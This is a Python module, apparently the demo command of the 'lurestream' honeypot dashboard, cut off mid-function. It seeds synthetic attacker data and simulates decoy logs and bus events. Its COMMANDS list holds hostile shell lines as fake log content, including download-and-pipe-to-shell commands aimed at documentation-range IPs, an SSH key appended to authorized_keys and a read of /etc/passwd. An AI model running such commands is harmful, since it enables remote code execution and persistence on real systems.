"""``lurestream demo``: everything on one machine, for a first look.

Starts a local nats-server (JetStream on) and a local MongoDB-wire server on free ports, seeds a realistic
data set, runs a simulated DECNET beside the server, runs the server, and prints the dashboard link,
ready-to-paste ``curl -N`` commands with a valid token, and the exact command that starts a second
``lurestream serve`` beside it on the same NATS and MongoDB-wire. Ctrl-C stops every child cleanly.

The simulated DECNET does what DECNET's own producers do, in the same collections and on the same subjects:

- **decky interaction logs** into ``logs`` (a few rows a second, and now and then a burst: a brute force,
  a port scan, a web fuzz of a few hundred rows), moving the attackers' ``last_seen``;
- **bus events** about ``--rate`` a second: attacker observations, scores, fingerprint rotations,
  attribution changes, topology mutations, identities, campaigns and orchestrator events.

**What an event changes is written to MongoDB before the event is published**, and a firehose event's payload
is the document as stored (``_id`` as ``id``, dates as ISO-8601), so a snapshot read after an event arrived
agrees with it: a dashboard reloaded a moment later shows the same rows it just showed live. (Writes replace
whole documents: nx-27017, the demo's MongoDB-wire server, stores a date given to ``$set`` as text.)

The JWT secret is ``LURESTREAM_JWT_SECRET`` when the environment sets it (so tokens minted elsewhere, and
a second server, verify against the demo's), else a random one printed for the second server's use.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import random
import secrets
import shlex
import shutil
import socket
import sys
import tempfile
import time
import uuid
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from typing import Any

from lurestream.config import Config, config_from
from lurestream.envelope import encode_envelope
from lurestream.localservices import ServiceError, free_port, mongo_wire_server, nats_server
from lurestream.logs import setup_logging
from lurestream.tokens import mint_token

log = logging.getLogger("lurestream.demo")

VIEWER_UUID = "5b1c3e2a-7d4f-4c61-9a8e-0f2b6d9c1a01"
ADMIN_UUID = "5b1c3e2a-7d4f-4c61-9a8e-0f2b6d9c1a02"
TOPOLOGY_ID = "topo-dmz-01"
# The three attackers the simulation follows closely (observations, scores, rotations); hundreds more are
# seeded behind them, so the dashboard's picker has a network's worth to search.
ATTACKERS: list[dict[str, Any]] = [
    {"_id": "a1f0c9de-3b7a-4e0e-8d51-6c2f4b9e7a10", "ip": "203.0.113.45", "identity_id": "id-ember-owl"},
    {"_id": "b27e4d11-9c3f-4a8b-b6e2-1d5a7f0c3b22", "ip": "198.51.100.7", "identity_id": "id-ember-owl"},
    {"_id": "c3d8a2f5-1e6b-47c9-a0d4-8b9e2c7f5d33", "ip": "192.0.2.199", "identity_id": None},
]
BACKGROUND_ATTACKERS = 400
# Log ids start here, all of them seven digits: nx-27017 (the demo's MongoDB-wire server) sorts an unfiltered
# ``_id`` as text, so the server's "greatest log id" would be 999 among 1..3000 and its tail would start there.
LOG_ID_BASE = 1_000_000
PRIMITIVES: dict[str, list[Any]] = {
    "ja3": ["771,4865-4866-4867,0-23-65281", "771,49195-49199,0-11-10-35", "769,47-53-5-10,0-10-11"],
    "http.user_agent": ["curl/8.5.0", "python-requests/2.32", "Mozilla/5.0 (X11; Linux x86_64)", "masscan/1.3"],
    "ssh.client_version": ["SSH-2.0-OpenSSH_9.6", "SSH-2.0-libssh_0.10.6", "SSH-2.0-Go"],
    "tcp.os_guess": ["Linux 5.x", "Windows 10", "FreeBSD 14"],
    "keystroke.cadence_ms": [112, 87, 143, 65],
    "timezone": ["UTC+03:00", "UTC+08:00", "UTC-05:00"],
}
# The decoys: ``deckies`` documents (the log feed's stats count the running ones) and the ``decky`` of rows.
DECKIES: list[dict[str, Any]] = [
    {"name": "web-01", "services": ["http", "https"], "state": "running"},
    {"name": "db-02", "services": ["mysql"], "state": "running"},
    {"name": "ssh-jump", "services": ["ssh"], "state": "running"},
    {"name": "files-03", "services": ["smb"], "state": "running"},
    {"name": "rdp-gw", "services": ["rdp"], "state": "running"},
    {"name": "mail-01", "services": ["smtp"], "state": "running"},
    {"name": "iot-cam-7", "services": ["telnet", "http"], "state": "running"},
    {"name": "ftp-legacy", "services": ["ftp"], "state": "running"},
    {"name": "scada-hmi", "services": ["modbus", "http"], "state": "running"},
    {"name": "vpn-edge", "services": ["https"], "state": "running"},
    {"name": "print-02", "services": ["ipp"], "state": "stopped"},
    {"name": "dev-git", "services": ["ssh", "http"], "state": "deploying"},
]
for _n, _decky in enumerate(DECKIES):
    _decky["_id"] = f"d3c0ffee-{_n:04x}-4d0c-8e11-5a1e5d3c{_n:04x}"
    _decky["topology_id"] = TOPOLOGY_ID
RUNNING = [d for d in DECKIES if d["state"] == "running"]

USERNAMES = ["root", "admin", "ubuntu", "oracle", "test", "pi", "postgres", "git", "user", "support", "guest"]
PASSWORDS = ["123456", "admin", "password", "root", "P@ssw0rd", "qwerty", "raspberry", "letmein", "changeme"]
HTTP_PATHS = [
    "/",
    "/wp-login.php",
    "/.env",
    "/admin",
    "/cgi-bin/luci/;stok=/locale",
    "/phpmyadmin/index.php",
    "/.git/config",
    "/api/v1/users",
    "/actuator/health",
    "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/server-status",
    "/HNAP1/",
    "/login.htm",
]
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Nuclei - Open-source project",
]
COMMANDS = [
    "uname -a",
    "cat /proc/cpuinfo",
    "wget http://198.51.100.66/x.sh -O- | sh",
    "cd /tmp; ls -la",
    "echo 'ssh-rsa AAAAB3Nza... k@kali' >> ~/.ssh/authorized_keys",
    "crontab -l",
    "nproc",
    "curl -s http://203.0.113.250/m | bash",
    "cat /etc/passwd",
    "history -c",
]
SHARES = ["IPC$", "ADMIN$", "C$", "finance", "backup", "scans"]
NAME_WORDS = (
    ["ember", "quiet", "amber", "iron", "pale", "rapid", "hollow", "frost", "copper", "dusk", "silent", "scarlet"],
    ["owl", "lynx", "heron", "viper", "moth", "otter", "wolf", "raven", "badger", "crane", "marten", "adder"],
)
CAMPAIGN_NAMES = [
    "Cold Harbor",
    "Glass Orchard",
    "Night Ferry",
    "Paper Lantern",
    "Salt Road",
    "Blue Quarry",
    "Low Tide",
    "Iron Gate",
    "Winter Market",
    "Copper Vein",
    "Still Water",
    "Long Shadow",
]


def now_ms() -> datetime:
    """Now, in UTC, to the millisecond: what a BSON date keeps, so a stored date reads back equal."""
    now = datetime.now(timezone.utc)
    return now.replace(microsecond=now.microsecond // 1000 * 1000)


def as_payload(doc: dict[str, Any]) -> dict[str, Any]:
    """A stored document as an event payload and as a snapshot item show it: ``_id`` renamed ``id``, first,
    dates as ISO-8601 (protocol §4, §14)."""

    def plain(value: Any) -> Any:
        if isinstance(value, datetime):
            return value.isoformat()
        if isinstance(value, dict):
            return {k: plain(v) for k, v in value.items()}
        if isinstance(value, list):
            return [plain(v) for v in value]
        return value

    item: dict[str, Any] = {"id": doc["_id"]}
    item.update((k, plain(v)) for k, v in doc.items() if k != "_id")
    return item


def envelope(topic: str, type_: str, payload: dict[str, Any], ts: float | None = None) -> bytes:
    return encode_envelope(topic, payload, type_, ts)


# -- the data set ------------------------------------------------------------------------------------------
def _ips(rng: random.Random) -> Iterator[str]:
    """Distinct attacker addresses, all in the ranges set aside for documentation (RFC 5737, RFC 3849)."""
    taken = {a["ip"] for a in ATTACKERS}
    while True:
        if rng.random() < 0.06:
            ip = f"2001:db8:{rng.randint(1, 0xFFFF):x}::{rng.randint(1, 0xFFFF):x}"
        else:
            ip = f"{rng.choice(['192.0.2', '198.51.100', '203.0.113'])}.{rng.randint(1, 254)}"
        if ip not in taken:
            taken.add(ip)
            yield ip


def background_attackers(rng: random.Random, now: datetime) -> list[dict[str, Any]]:
    """The attackers behind the three the simulation follows: seen over the last two weeks, most of them
    scored, some never (``last_seen``/``score`` missing, as on a freshly imported attacker)."""
    ips = _ips(rng)
    docs = []
    for _ in range(BACKGROUND_ATTACKERS):
        doc: dict[str, Any] = {"_id": str(uuid.UUID(int=rng.getrandbits(128), version=4)), "ip": next(ips)}
        doc["identity_id"] = None
        if rng.random() < 0.93:
            first = now - timedelta(days=rng.uniform(0.5, 21))
            doc["first_seen"] = first
            doc["last_seen"] = min(now, first + timedelta(hours=rng.expovariate(1 / 30)))
            doc["score"] = round(rng.betavariate(2, 5) * 100, 1)
        docs.append(doc)
    return docs


def decky_log(rng: random.Random, ip: str, decky: dict[str, Any], service: str | None = None) -> dict[str, Any]:
    """One interaction log row as a decky writes it (``_id`` and ``timestamp`` are the writer's)."""
    service = service or rng.choice(decky["services"])
    name = decky["name"]
    port = rng.randint(32768, 60999)
    user, password = rng.choice(USERNAMES), rng.choice(PASSWORDS)
    if service == "ssh":
        roll = rng.random()
        if roll < 0.75:
            event, line = "auth_failure", f"Failed password for {user} from {ip} port {port} ssh2"
            fields: dict[str, Any] = {"username": user, "password": password, "port": 22, "src_port": port}
        elif roll < 0.85:
            event, line = "auth_success", f"Accepted password for {user} from {ip} port {port} ssh2"
            fields = {"username": user, "password": password, "port": 22, "src_port": port}
        else:
            command = rng.choice(COMMANDS)
            event, line = "command", f"{user}@{name}:~$ {command}"
            fields = {"username": user, "command": command, "port": 22}
    elif service in ("http", "https"):
        method = rng.choice(["GET", "GET", "GET", "POST", "HEAD"])
        path, status = rng.choice(HTTP_PATHS), rng.choice([200, 301, 403, 404, 404, 404, 500])
        agent = rng.choice(USER_AGENTS)
        event, line = "request", f'{ip} "{method} {path} HTTP/1.1" {status} "{agent}"'
        fields = {"method": method, "path": path, "status": status, "user_agent": agent}
        fields["port"] = 443 if service == "https" else 80
    elif service == "mysql":
        event, line = "auth_failure", f"Access denied for user '{user}'@'{ip}' (using password: YES)"
        fields = {"username": user, "password": password, "port": 3306}
    elif service == "smb":
        share = rng.choice(SHARES)
        event, line = "file_access", f"SMB2 TREE_CONNECT \\\\{name}\\{share} from {ip}"
        fields = {"share": share, "username": user, "port": 445}
    elif service == "rdp":
        event, line = "connect", f"RDP connection request cookie: mstshash={user} from {ip}"
        fields = {"username": user, "port": 3389}
    elif service == "telnet":
        event, line = "auth_failure", f"telnet login failed: {user}/{password} from {ip}"
        fields = {"username": user, "password": password, "port": 23}
    elif service == "smtp":
        event, line = "auth_failure", f"AUTH LOGIN failed for {user}@corp.example from {ip}"
        fields = {"username": user, "port": 25}
    elif service == "ftp":
        event, line = "auth_failure", f"USER {user} PASS {password}: 530 Login incorrect ({ip})"
        fields = {"username": user, "password": password, "port": 21}
    elif service == "modbus":
        register = rng.randint(0, 4000)
        event, line = "scan", f"Modbus read holding registers unit=1 addr={register} count=16 from {ip}"
        fields = {"function": 3, "address": register, "port": 502}
    else:
        event, line = "connect", f"connection from {ip}:{port} to {service}"
        fields = {"port": 631}
    return {
        "decky": name,
        "service": service,
        "event_type": event,
        "attacker_ip": ip,
        "raw_line": line,
        # DECNET stores fields as JSON text; some writers store an object: both appear, as in the wild
        "fields": json.dumps(fields) if rng.random() < 0.3 else fields,
    }


def burst_rows(rng: random.Random, ip: str) -> list[dict[str, Any]]:
    """A burst from one attacker: an SSH brute force, a port scan across the decoys, or a web fuzz."""
    kind = rng.choice(["brute", "scan", "fuzz"])
    size = rng.randint(60, 260)
    if kind == "brute":
        decky = next(d for d in DECKIES if d["name"] == "ssh-jump")
        return [decky_log(rng, ip, decky, "ssh") for _ in range(size)]
    if kind == "scan":
        rows = []
        for _ in range(size):
            decky = rng.choice(RUNNING)
            service = rng.choice(decky["services"])
            rows.append(
                {
                    "decky": decky["name"],
                    "service": service,
                    "event_type": "scan",
                    "attacker_ip": ip,
                    "raw_line": f"SYN from {ip}:{rng.randint(32768, 60999)} to {decky['name']}/{service}",
                    "fields": {"flags": "S", "ttl": rng.choice([44, 52, 113, 241])},
                }
            )
        return rows
    decky = next(d for d in DECKIES if d["name"] == "web-01")
    return [decky_log(rng, ip, decky, "http") for _ in range(size)]


def history_logs(rng: random.Random, ips: list[str], now: datetime, hours: float = 4) -> list[dict[str, Any]]:
    """Four hours of rows before now (ids from LOG_ID_BASE + 1, in time order), with a few bursts: the
    histogram's past."""
    rows: list[dict[str, Any]] = []
    start = now - timedelta(hours=hours)
    minute = 0
    while minute < hours * 60:
        at = start + timedelta(minutes=minute)
        batch = [decky_log(rng, rng.choice(ips), rng.choice(RUNNING)) for _ in range(rng.randint(2, 12))]
        if rng.random() < 0.02:
            batch += burst_rows(rng, rng.choice(ips))
        for n, row in enumerate(batch):
            row["timestamp"] = at + timedelta(seconds=60 * n / len(batch))
            rows.append(row)
        minute += 1
    for n, row in enumerate(rows, start=LOG_ID_BASE + 1):
        row["_id"] = n
        row["timestamp"] = row["timestamp"].replace(microsecond=row["timestamp"].microsecond // 1000 * 1000)
    return rows


def identity_name(rng: random.Random) -> str:
    return f"{rng.choice(NAME_WORDS[0])}-{rng.choice(NAME_WORDS[1])}"


def seed(client: Any, db_name: str) -> None:
    """A realistic data set (synchronous PyMongo: the demo seeds before the server starts)."""
    db = client[db_name]
    now = now_ms()
    from lurestream.store.mongo import INDEXES

    for collection, specs in INDEXES.items():  # what `lurestream init-db` creates, TTL indexes included
        for keys, options in specs:
            db[collection].create_index(keys, **options)
    db.users.insert_many(
        [
            {"_id": VIEWER_UUID, "username": "analyst", "role": "viewer", "must_change_password": False},
            {"_id": ADMIN_UUID, "username": "admin", "role": "admin", "must_change_password": False},
        ]
    )
    rng = random.Random(7)
    followed = [
        dict(a, score=round(rng.uniform(55, 95), 1), last_seen=now, first_seen=now - timedelta(days=3))
        for a in ATTACKERS
    ]
    background = background_attackers(rng, now)
    db.deckies.insert_many([dict(d, services=list(d["services"])) for d in DECKIES])

    observations = []
    t0 = time.time() - 3600
    for attacker in ATTACKERS:
        for primitive, values in PRIMITIVES.items():
            for _ in range(rng.randint(2, 5)):
                observations.append(
                    {
                        "attacker_uuid": attacker["_id"],
                        "primitive": primitive,
                        "value": rng.choice(values),
                        "confidence": round(rng.uniform(0.4, 0.99), 2),
                        "ts": t0 + rng.uniform(0, 3500),
                        "source": rng.choice(["sniffer", "ssh-honeypot", "http-decky"]),
                    }
                )
    db.observations.insert_many(observations)

    # the log feed's past: the followed attackers most, the rest of the network now and then
    active_ips = [a["ip"] for a in ATTACKERS] * 20 + [a["ip"] for a in background[:60]]
    db.logs.insert_many(history_logs(rng, active_ips, now))

    # identities (two of the followed attackers are one actor) and the campaigns some of them run
    campaigns: list[dict[str, Any]] = [
        {
            "_id": f"camp-{name.lower().replace(' ', '-')}",
            "name": name,
            "state": "active",
            "identities": [],
            "first_seen": (now - timedelta(days=rng.uniform(2, 20))).replace(microsecond=0),
            "last_change": "formed",
            "updated_at": (now - timedelta(minutes=rng.uniform(1, 300))).replace(microsecond=0),
        }
        for name in CAMPAIGN_NAMES[:5]
    ]
    identities: list[dict[str, Any]] = [
        {"_id": "id-ember-owl", "label": "ember-owl", "attackers": [ATTACKERS[0]["_id"], ATTACKERS[1]["_id"]]}
    ]
    names = {"ember-owl"}
    while len(identities) < 24:
        name = identity_name(rng)
        if name not in names:
            names.add(name)
            members = [a["_id"] for a in rng.sample(background, rng.randint(1, 3))]
            identities.append({"_id": f"id-{name}", "label": name, "attackers": members})
    members_of = {a["_id"]: a for a in background}
    for n, identity in enumerate(identities):
        campaign = campaigns[n % len(campaigns)] if rng.random() < 0.6 else None
        identity.update(
            state=rng.choice(["tentative", "confirmed", "confirmed", "contested"]),
            confidence=round(rng.uniform(0.35, 0.98), 2),
            observations=rng.randint(3, 120),
            campaign_id=campaign["_id"] if campaign else None,
            merged_into=None,
            last_change="formed",
            updated_at=(now - timedelta(minutes=rng.uniform(1, 600))).replace(microsecond=0),
        )
        if campaign:
            campaign["identities"].append(identity["_id"])
        for member in identity["attackers"]:
            if member in members_of:
                members_of[member]["identity_id"] = identity["_id"]
    db.attackers.insert_many(followed + background)
    db.identities.insert_many(identities)
    db.campaigns.insert_many(campaigns)

    # the orchestrator's last two hours: traffic, files and mails it saw on the decoys
    sim = Simulation(random.Random(11))
    sim.ips = active_ips
    stamps = sorted(now - timedelta(seconds=rng.uniform(60, 7200)) for _ in range(90))
    db.orchestrator_events.insert_many([sim.orchestrator_doc(n, at) for n, at in enumerate(stamps, start=1)])

    db.topologies.insert_one({"_id": TOPOLOGY_ID, "status": "active", "name": "DMZ decoys"})
    db.topology_mutations.insert_many(
        [
            {
                "_id": "mut-0001",
                "topology_id": TOPOLOGY_ID,
                "op": "add_decky",
                "payload": {"name": "web-01"},
                "state": "applied",
                "requested_at": now - timedelta(minutes=30),
                "applied_at": now - timedelta(minutes=29),
                "reason": None,
            },
            {
                "_id": "mut-0002",
                "topology_id": TOPOLOGY_ID,
                "op": "add_service",
                "payload": {"decky": "db-02", "service": "mysql"},
                "state": "applying",
                "requested_at": now - timedelta(minutes=2),
                "applied_at": None,
                "reason": None,
            },
            {
                "_id": "mut-0003",
                "topology_id": TOPOLOGY_ID,
                "op": "rotate_banner",
                "payload": {"decky": "ssh-jump", "banner": "SSH-2.0-OpenSSH_8.9"},
                "state": "pending",
                "requested_at": now - timedelta(seconds=40),
                "applied_at": None,
                "reason": None,
            },
        ]
    )


# -- the simulated DECNET ----------------------------------------------------------------------------------
class Simulation:
    """DECNET's producers, simulated: each step writes what it changes to MongoDB, then publishes it.

    ``db`` is an async PyMongo database and ``nc`` a NATS connection, set by :meth:`run`; the document
    builders work without them (the seed uses them)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.db: Any = None
        self.nc: Any = None
        self.log_id = 0
        self.orchestrator_id = 0
        self.mutation_id = 3
        self.mutation: dict[str, Any] | None = None  # the mutation in flight, moved on one state a step
        self.seen: dict[str, datetime] = {}  # attacker ip -> last activity, written once a second
        self.ips: list[str] = [a["ip"] for a in ATTACKERS]
        self.published = 0
        self.rows = 0
        self.writing = asyncio.Lock()

    # -- documents ------------------------------------------------------------------------------------------
    def orchestrator_doc(self, n: int, at: datetime) -> dict[str, Any]:
        rng = self.rng
        decky = rng.choice(RUNNING)
        kind = rng.choices(["traffic", "file", "email"], [6, 2, 1])[0]
        doc: dict[str, Any] = {
            "_id": f"orc-{n:07d}",
            "ts": at.replace(microsecond=at.microsecond // 1000 * 1000),
            "decky_uuid": decky["_id"],
            "decky": decky["name"],
            "kind": kind,
        }
        ip = rng.choice(self.ips)
        if kind == "traffic":
            doc.update(
                src_ip=ip,
                dst_port=rng.choice([22, 80, 443, 445, 3389, 23, 502]),
                protocol=rng.choice(["tcp", "tcp", "udp"]),
                bytes=rng.randint(60, 250_000),
                direction=rng.choice(["inbound", "inbound", "outbound"]),
            )
        elif kind == "file":
            doc.update(
                src_ip=ip,
                path=rng.choice(["/tmp/.x/kinsing", "/dev/shm/xmrig", "/var/www/html/shell.php", "/root/.ssh/rc"]),
                sha256=secrets.token_hex(32),
                size=rng.randint(900, 4_000_000),
                action=rng.choice(["dropped", "modified", "executed"]),
            )
        else:
            doc.update(
                sender=f"{rng.choice(USERNAMES)}@{rng.choice(['mail.example.net', 'corp.example'])}",
                recipient=f"{rng.choice(['finance', 'it-help', 'ceo'])}@corp.example",
                subject=rng.choice(["Invoice overdue", "Password expiry notice", "Re: shipment", "VPN access"]),
            )
        return doc

    # -- the run --------------------------------------------------------------------------------------------
    async def run(self, mongo_uri: str, db_name: str, nats_url: str, rate: float) -> None:
        """Write logs and publish events until cancelled."""
        import nats
        from pymongo import AsyncMongoClient

        client: AsyncMongoClient[dict[str, Any]] = AsyncMongoClient(mongo_uri, tz_aware=True)
        self.db = client[db_name]
        self.nc = await nats.connect(nats_url, name="lurestream-demo-publisher")
        try:
            # filtered on _id, or nx-27017 sorts the ids as text (see LOG_ID_BASE)
            last = await self.db.logs.find({"_id": {"$gt": 0}}, {"_id": 1}).sort("_id", -1).limit(1).to_list(1)
            self.log_id = int(last[0]["_id"]) if last else LOG_ID_BASE
            self.orchestrator_id = await self.db.orchestrator_events.count_documents({})
            # the active ones are scored ones: DECNET's scorer scores whom it sees, so an unscored attacker is
            # one not seen since it was imported (a log row would move it to the top of the picker unscored)
            scored = self.db.attackers.find({"score": {"$exists": True}}, {"ip": 1}).limit(120)
            self.ips = [a["ip"] for a in ATTACKERS] * 12 + [d["ip"] async for d in scored]
            await asyncio.gather(self._events(rate), self._logs(max(rate, 1.0)), self._last_seen())
        finally:
            await self.nc.close()
            await client.close()

    async def _forever(self, step: Any, wait: Any) -> None:
        """``step()`` then ``await wait()``, forever; a failing step is logged (at most every 10 s), not fatal."""
        warned = 0.0
        while True:
            try:
                await step()
            except asyncio.CancelledError:
                raise
            except Exception as exc:  # a local service restarting: the next step tries again
                if time.monotonic() - warned > 10:
                    warned = time.monotonic()
                    log.warning("demo publisher: %s: %s", step.__name__, exc)
            await wait()

    async def _events(self, rate: float) -> None:
        async def wait() -> None:
            await asyncio.sleep(self.rng.expovariate(rate))

        await self._forever(self.event, wait)

    async def _logs(self, rate: float) -> None:
        """A few rows a second; every 20-60 s a burst of a few hundred from one attacker."""
        next_burst = time.monotonic() + self.rng.uniform(8, 20)

        async def step() -> None:
            nonlocal next_burst
            if time.monotonic() >= next_burst:
                next_burst = time.monotonic() + self.rng.uniform(20, 60)
                await self.burst()
            else:
                await self.write_logs([decky_log(self.rng, self.rng.choice(self.ips), self.rng.choice(RUNNING))])

        async def wait() -> None:
            await asyncio.sleep(self.rng.expovariate(rate))

        await self._forever(step, wait)

    async def _last_seen(self) -> None:
        async def step() -> None:
            seen, self.seen = self.seen, {}
            for ip, at in seen.items():
                await self._change("attackers", {"ip": ip}, {"last_seen": at})

        async def wait() -> None:
            await asyncio.sleep(1.0)

        await self._forever(step, wait)

    async def write_logs(self, rows: list[dict[str, Any]]) -> None:
        """Rows with the next ids and the current time, as a decky's log shipper inserts them."""
        at = now_ms()
        for row in rows:
            self.log_id += 1
            row["_id"] = self.log_id
            row["timestamp"] = at
            self.seen[row["attacker_ip"]] = at
        await self.db.logs.insert_many(rows, ordered=True)
        self.rows += len(rows)

    async def burst(self) -> None:
        rows = burst_rows(self.rng, self.rng.choice(self.ips))
        for start in range(0, len(rows), 50):  # over a second or two, as a real brute force arrives
            await self.write_logs(rows[start : start + 50])
            await asyncio.sleep(0.2)

    async def publish(self, subject: str, type_: str, payload: dict[str, Any], ts: float | None = None) -> None:
        await self.nc.publish(subject, envelope(subject, type_, payload, ts))
        self.published += 1

    async def event(self) -> None:
        """One bus event, its change written first."""
        kind = self.rng.choices(
            ["obs", "score", "rotate", "attrib", "mutation", "decky", "identity", "campaign", "orchestrator"],
            [8, 2, 1, 1, 2, 1, 3, 1, 4],
        )[0]
        await getattr(self, f"_{kind}")()

    async def _obs(self) -> None:
        attacker = self.rng.choice(ATTACKERS)
        primitive = self.rng.choice(list(PRIMITIVES))
        ts = time.time()
        observation = {
            "attacker_uuid": attacker["_id"],
            "primitive": primitive,
            "value": self.rng.choice(PRIMITIVES[primitive]),
            "confidence": round(self.rng.uniform(0.4, 0.99), 2),
            "ts": ts,
            "source": "sniffer",
        }
        await self.db.observations.insert_one(dict(observation))
        self.seen[attacker["ip"]] = now_ms()
        await self.publish(f"attacker.observation.{primitive}", "observation", observation, ts)

    async def _score(self) -> None:
        ip = self.rng.choice(self.ips)
        score = round(self.rng.uniform(0, 100), 1)
        await self._change("attackers", {"ip": ip}, {"score": score})
        # DECNET's scorer stamps only the ip
        await self.publish("attacker.scored", "score", {"attacker_ip": ip, "score": score})

    async def _rotate(self) -> None:
        attacker = self.rng.choice(ATTACKERS)
        old, new = self.rng.sample(PRIMITIVES["ja3"], 2)
        ts = time.time()
        await self.db.observations.insert_one(
            {
                "attacker_uuid": attacker["_id"],
                "primitive": "ja3",
                "value": new,
                "confidence": 0.9,
                "ts": ts,
                "source": "sniffer",
            }
        )
        payload = {"attacker_uuid": attacker["_id"], "primitive": "ja3", "old": old, "new": new}
        await self.publish("attacker.fingerprint_rotated", "rotation", payload, ts)

    async def _attrib(self) -> None:
        # An attribution profile's state: DECNET keeps it with its attribution engine, not in a collection a
        # lurestream snapshot reads, so there is nothing here to write first.
        state = self.rng.choice(["tentative", "confirmed", "contested"])
        payload = {"identity_uuid": "id-ember-owl", "state": state}
        await self.publish("attribution.profile.state_changed", "state", payload)

    async def _mutation(self) -> None:
        """A mutation's life, one state a step: requested (pending) → applying → applied or failed."""
        now = now_ms()
        m = self.mutation
        if m is None:
            self.mutation_id += 1
            decky = self.rng.choice(DECKIES)
            service = self.rng.choice(["http", "smb", "rdp", "telnet", "ssh"])
            m = self.mutation = {
                "_id": f"mut-{self.mutation_id:04d}",
                "topology_id": TOPOLOGY_ID,
                "op": self.rng.choice(["add_service", "rotate_banner", "remove_service"]),
                "payload": {"decky": decky["name"], "service": service},
                "state": "pending",
                "requested_at": now,
                "applied_at": None,
                "reason": None,
            }
            await self.db.topology_mutations.insert_one(dict(m))
            tail = "requested"
        elif m["state"] == "pending":
            m["state"] = tail = "applying"
            await self._change("topology_mutations", {"_id": m["_id"]}, {"state": "applying"})
        else:
            failed = self.rng.random() < 0.15
            m["state"] = tail = "failed" if failed else "applied"
            m["applied_at"] = None if failed else now
            m["reason"] = "decky did not answer" if failed else None
            change = {k: m[k] for k in ("state", "applied_at", "reason")}
            await self._change("topology_mutations", {"_id": m["_id"]}, change)
            self.mutation = None
        payload = as_payload(m)
        payload["mutation_id"] = m["_id"]
        await self.publish(f"topology.{TOPOLOGY_ID}.mutation.{tail}", "mutation", payload)

    async def _decky(self) -> None:
        decky = self.rng.choice(DECKIES[:3])
        service = self.rng.choice(["http", "smb", "rdp", "telnet"])
        if service not in decky["services"]:
            decky["services"].append(service)
            await self._change("deckies", {"_id": decky["_id"]}, {"services": list(decky["services"])})
        payload = {"topology_id": TOPOLOGY_ID, "decky": decky["name"], "service": service}
        await self.publish(f"decky.{decky['name']}.service_added", "decky", payload)

    async def _identity(self) -> None:
        """formed, observation.linked, merged, unmerged, campaign.assigned: the identity as stored after."""
        rng = self.rng
        now = now_ms()
        identities = await self.db.identities.find({}).to_list(None)
        live = [i for i in identities if i.get("state") != "merged"]
        merged = [i for i in identities if i.get("state") == "merged"]
        choice = rng.choices(
            ["formed", "observation.linked", "merged", "unmerged", "campaign.assigned"],
            [1 if len(identities) < 60 else 0, 8, 1 if len(live) > 8 else 0, 1 if merged else 0, 2],
        )[0]
        if choice == "formed":
            name = identity_name(rng)
            while any(i["_id"] == f"id-{name}" for i in identities):
                name = f"{identity_name(rng)}-{rng.randint(2, 99)}"
            ip = rng.choice(self.ips)
            attacker = await self.db.attackers.find_one({"ip": ip}, {"_id": 1})
            doc: dict[str, Any] = {
                "_id": f"id-{name}",
                "label": name,
                "attackers": [attacker["_id"]] if attacker else [],
                "state": "tentative",
                "confidence": round(rng.uniform(0.3, 0.6), 2),
                "observations": 1,
                "campaign_id": None,
                "merged_into": None,
                "last_change": f"formed from {ip}",
                "updated_at": now,
            }
            await self.db.identities.insert_one(dict(doc))
            if attacker:
                await self._change("attackers", {"_id": attacker["_id"]}, {"identity_id": doc["_id"]})
        elif choice == "observation.linked":
            doc = rng.choice(live)
            primitive = rng.choice(list(PRIMITIVES))
            doc.update(
                observations=int(doc.get("observations") or 0) + 1,
                last_change=f"linked {primitive}",
                confidence=min(0.99, round(float(doc.get("confidence") or 0.5) + 0.01, 2)),
                updated_at=now,
            )
        elif choice == "merged":
            doc, other = rng.sample(live, 2)
            doc.update(
                attackers=list(doc.get("attackers") or []) + list(other.get("attackers") or []),
                last_change=f"merged {other['_id']} into it",
                updated_at=now,
            )
            absorbed = {"state": "merged", "merged_into": doc["_id"], "last_change": f"merged into {doc['_id']}"}
            await self._change("identities", {"_id": other["_id"]}, dict(absorbed, updated_at=now))
        elif choice == "unmerged":
            doc = rng.choice(merged)
            doc.update(
                state="tentative", last_change=f"split from {doc.get('merged_into')}", merged_into=None, updated_at=now
            )
        else:
            return await self._identity_to_campaign()
        if choice != "formed":
            await self._store("identities", doc)
        await self.publish(f"identity.{choice}", "identity", as_payload(doc))

    async def _campaign(self) -> None:
        """campaign.formed (up to a dozen); otherwise an identity joins one (campaign.identity.assigned)."""
        count = await self.db.campaigns.count_documents({})
        if count >= len(CAMPAIGN_NAMES) or self.rng.random() < 0.7:
            return await self._identity_to_campaign()
        name = CAMPAIGN_NAMES[count]
        now = now_ms()
        doc = {
            "_id": f"camp-{name.lower().replace(' ', '-')}",
            "name": name,
            "state": "active",
            "identities": [],
            "first_seen": now,
            "last_change": "formed",
            "updated_at": now,
        }
        await self.db.campaigns.insert_one(dict(doc))
        await self.publish("campaign.formed", "campaign", as_payload(doc))

    async def _identity_to_campaign(self) -> None:
        identities = await self.db.identities.find({"state": {"$ne": "merged"}}).to_list(None)
        free = [i for i in identities if not i.get("campaign_id")]
        if not identities:
            return
        identity = self.rng.choice(free or identities)
        campaign = self.rng.choice(await self.db.campaigns.find({}).to_list(None))
        now = now_ms()
        identity.update(campaign_id=campaign["_id"], last_change=f"assigned to {campaign['name']}", updated_at=now)
        members = [m for m in campaign.get("identities") or [] if m != identity["_id"]] + [identity["_id"]]
        campaign.update(identities=members, last_change=f"{identity['_id']} assigned", updated_at=now)
        await self._store("identities", identity)
        await self.publish("identity.campaign.assigned", "identity", as_payload(identity))
        await self._store("campaigns", campaign)
        await self.publish("campaign.identity.assigned", "campaign", as_payload(campaign))

    async def _store(self, collection: str, doc: dict[str, Any]) -> None:
        await self.db[collection].replace_one({"_id": doc["_id"]}, doc)

    async def _change(self, collection: str, where: dict[str, Any], changes: dict[str, Any]) -> None:
        """``$set``, done as read, change, replace: nx-27017 stores a date given to ``$set`` as text (and a
        boolean as 1), while a replaced document keeps its types — and the picker sorts on ``last_seen``."""
        async with self.writing:  # the log writer and the event steps both change attackers: one at a time
            for doc in await self.db[collection].find(where).to_list(None):
